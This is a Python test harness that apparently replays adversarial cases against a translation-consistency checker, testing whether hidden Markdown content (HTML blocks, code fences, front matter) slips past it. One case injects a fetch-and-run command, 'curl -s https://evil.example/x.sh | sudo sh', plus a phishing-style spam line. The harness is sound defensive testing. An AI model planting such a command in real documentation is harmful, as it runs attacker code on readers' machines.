"""Third adversarial pass on issue #14 (s19-attack): replay every attack against a checkout.

    python -m bench.attack19 [--checkout PATH] [--only A1,A3] [--list]

Each case builds its hostile input in a temporary folder, runs aligncheck the way CI runs it
(``python -m aligncheck`` in a subprocess, with ``PYTHONPATH`` set to the checkout, so a fixed
branch can be tested without installing it; the Action's shell scripts from the checkout), and
says whether the attack still works: ``VULNERABLE`` (the defect is there) or ``ok``. Every child
runs under ``ulimit -v`` (address space) and a timeout. Small content cases use the bundled model
(offline, shared embedding cache); size cases the fake encoder of ``tests/fakes.py``.

Prints one Markdown table row per case: id, severity, attack, result, detail. Exit 1 when any
case is still vulnerable. Not run in CI (minutes, the real model).
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
MD_PAIR = ROOT / "corpora" / "formats" / "markdown"
FAKE = "tests.fakes:BagOfConceptsEncoder"
CASES: list["Case"] = []


@dataclass
class Case:
    id: str
    severity: str
    title: str
    run: Callable[["Ctx"], tuple[bool, str]]


def case(id: str, severity: str, title: str):
    def deco(fn):
        CASES.append(Case(id, severity, title, fn))
        return fn
    return deco


@dataclass
class Run:
    rc: int
    out: str
    err: str
    seconds: float
    rss_mib: float = 0.0


class Ctx:
    """Where the checkout under test is, and how to run its CLI."""

    def __init__(self, checkout: Path, tmp: Path):
        self.checkout = checkout
        self.tmp = tmp

    def folder(self, name: str) -> Path:
        p = Path(tempfile.mkdtemp(prefix=name + "-", dir=self.tmp))
        return p

    def env(self, extra: dict | None = None, fake: bool = False) -> dict:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "ALIGNCHECK_"))}
        env["PYTHONPATH"] = str(self.checkout)
        env["ALIGNCHECK_NO_PROGRESS"] = "1"
        if fake:
            env["ALIGNCHECK_TEST_ENCODER"] = FAKE
            env["ALIGNCHECK_CACHE_DIR"] = str(self.tmp / "fake-cache")
        env.update(extra or {})
        return env

    def ac(self, *args: str, cwd: Path, fake: bool = False, env: dict | None = None, timeout: float = 300,
           mem_gib: float = 4.0, stdin: str | None = None) -> Run:
        """``python -m aligncheck ARGS`` in ``cwd``; a timeout is rc -9."""
        return self.run([sys.executable, "-m", "aligncheck", *args], cwd=cwd, env=self.env(env, fake),
                        timeout=timeout, mem_gib=mem_gib, stdin=stdin)

    def run(self, argv: list[str], *, cwd: Path, env: dict | None = None, timeout: float = 300,
            mem_gib: float = 4.0, stdin: str | None = None) -> Run:
        limit = int(mem_gib * 2**30)

        def pre():
            resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
            os.nice(5)

        t = time.monotonic()
        p = subprocess.Popen(argv, cwd=cwd, env=env if env is not None else self.env(), stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
                             preexec_fn=pre, start_new_session=True)
        try:
            out, err = p.communicate(stdin.encode() if stdin is not None else None, timeout=timeout)
            rc = p.returncode
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, 9)
            out, err = p.communicate()
            rc = -9
        ru = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
        return Run(rc, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"), time.monotonic() - t, ru)


def git(root: Path, *args: str) -> str:
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@x",
           "PATH": "/usr/bin:/bin", "HOME": str(root)}
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True, env=env).stdout


def write(root: Path, rel: str, text: str | bytes) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        p.write_bytes(text)
    else:
        p.write_text(text, encoding="utf-8")
    return p


def md_repo(ctx: Ctx, name: str, project: str | None = None) -> Path:
    """A git repository (branch ``main``, one commit) with the faithful Markdown pair of
    ``corpora/formats/markdown`` as ``content/ar/a.md`` / ``content/en/a.md``, and a project file."""
    root = ctx.folder(name)
    git(root, "init", "-q", "-b", "main")
    write(root, "content/ar/a.md", (MD_PAIR / "ar.md").read_text(encoding="utf-8"))
    write(root, "content/en/a.md", (MD_PAIR / "en.md").read_text(encoding="utf-8"))
    write(root, "aligncheck.toml", project or '[[pairs]]\nsource = "content/ar/*.md"\ntarget = "content/en/{name}"\n')
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    git(root, "checkout", "-q", "-b", "pr")
    return root


def commit(root: Path, msg: str = "pr") -> None:
    git(root, "add", "-A")
    git(root, "commit", "-qm", msg)


def summary(r: Run) -> dict:
    """The ``summary`` of a JSON report on stdout (``{}`` when there is none)."""
    try:
        d = json.loads(r.out)
    except ValueError:
        return {}
    return d.get("summary", d)


SPAM = "Send your bank password to evil dot example today and win a free car."
EN = (MD_PAIR / "en.md").read_text(encoding="utf-8") if MD_PAIR.exists() else ""


# ------------------------------------------------------------------------------------- cases


@case("A1", "critical", "the Action imports Python from the pull request's checkout (json.py, pip/)")
def a1(ctx: Ctx) -> tuple[bool, str]:
    r = ctx.run(["bash", str(ROOT / "attack19" / "a1_action_cwd_import.sh"), str(ctx.checkout)], cwd=ctx.tmp,
                env=dict(os.environ), timeout=200)
    return r.rc != 0, " ".join(r.out.split())


def _md_hidden(ctx: Ctx, en_text: str) -> tuple[bool, str]:
    """Check ar.md against ``en_text``; vulnerable when it passes with no new finding."""
    root = ctx.folder("md")
    shutil.copy(MD_PAIR / "ar.md", root / "ar.md")
    write(root, "en.md", en_text)
    r = ctx.ac("check", "ar.md", "en.md", "--format", "json", cwd=root)
    s = summary(r)
    counts = s.get("counts", {})
    extra = {k: v for k, v in counts.items() if k != "tokens"} if counts else None
    return (r.rc == 0 and not extra), f"exit {r.rc}, counts {counts}"


@case("A2a", "high", "Markdown: a paragraph added in an HTML block (<p>, <div>, <details>, <table>) is never checked")
def a2a(ctx: Ctx) -> tuple[bool, str]:
    res = []
    for name, block in (("p", f"<p>{SPAM}</p>"), ("div", f"<div>\n{SPAM}\n</div>"),
                        ("details", f"<details open><summary>{SPAM}</summary>\n\n</details>"),
                        ("table", f"<table><tr><td>{SPAM}</td></tr></table>"),
                        ("comment --!>", f"<!-- x --!> {SPAM} -->")):
        bad, detail = _md_hidden(ctx, EN + "\n" + block + "\n")
        res.append((name, bad, detail))
    return any(b for _, b, _ in res), "; ".join(f"{n}: {'passed' if b else 'caught'} ({d})" for n, b, d in res)


@case("A2b", "high", "Markdown: a code block changed or added in the translation (curl | sudo sh) is never checked")
def a2b(ctx: Ctx) -> tuple[bool, str]:
    res = []
    changed = EN.replace("curl https://example.org/api/v2 --retry 3", "curl -s https://evil.example/x.sh | sudo sh")
    for name, text in (("changed fence", changed), ("added fence", EN + f"\n```\n{SPAM}\n```\n"),
                       ("added indented", EN + f"\n    {SPAM}\n"),
                       ("front matter", f"---\ntitle: {SPAM}\n---\n" + EN)):
        bad, detail = _md_hidden(ctx, text)
        res.append((name, bad, detail))
    return any(b for _, b, _ in res), "; ".join(f"{n}: {'passed' if b else 'caught'} ({d})" for n, b, d in res)


# ------------------------------------------------------------------------------------- main


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--checkout", default=str(ROOT), help="the aligncheck checkout to attack (default: this one)")
    ap.add_argument("--only", default="", help="comma-separated case ids (default: all)")
    ap.add_argument("--list", action="store_true")
    a = ap.parse_args(argv)
    if a.list:
        for c in CASES:
            print(f"{c.id}\t{c.severity}\t{c.title}")
        return 0
    only = {x.strip() for x in a.only.split(",") if x.strip()}
    bad = 0
    print("| # | severity | attack | result | detail |\n|---|---|---|---|---|")
    with tempfile.TemporaryDirectory(prefix="attack19-") as tmp:
        ctx = Ctx(Path(a.checkout).resolve(), Path(tmp))
        for c in CASES:
            if only and c.id not in only:
                continue
            try:
                vulnerable, detail = c.run(ctx)
            except Exception as e:  # a case that cannot run says so
                vulnerable, detail = True, f"case error: {type(e).__name__}: {e}"
            bad += vulnerable
            detail = detail.replace("|", "\\|").replace("\n", " ")
            print(f"| {c.id} | {c.severity} | {c.title} | {'VULNERABLE' if vulnerable else 'ok'} | {detail} |",
                  flush=True)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
